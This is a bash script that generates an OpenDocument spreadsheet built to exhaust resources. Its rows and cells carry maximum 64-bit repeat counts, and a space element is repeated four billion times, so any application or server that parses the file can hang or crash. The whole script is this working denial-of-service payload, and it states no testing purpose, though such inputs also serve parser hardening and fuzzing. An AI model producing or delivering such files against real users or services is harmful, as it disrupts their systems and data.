#!/bin/bash
# Cells and rows said to stand there billions of times.
dir=$(mktemp -d)
printf 'application/vnd.oasis.opendocument.spreadsheet' >"$dir/mimetype"
{
	printf '<o xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:spreadsheet><table:table>'
	for ((i = 0; i < 5000; i++)); do
		printf '<table:table-row table:number-rows-repeated="18446744073709551615"><table:table-cell table:number-columns-repeated="18446744073709551615"><text:p>%s<text:s text:c="4000000000"/>x</text:p></table:table-cell><table:table-cell/></table:table-row>' "$i"
	done
	printf '</table:table></office:spreadsheet></o>'
} >"$dir/content.xml"
(cd "$dir" && zip -q -X -r - mimetype content.xml)
rm -rf "$dir"
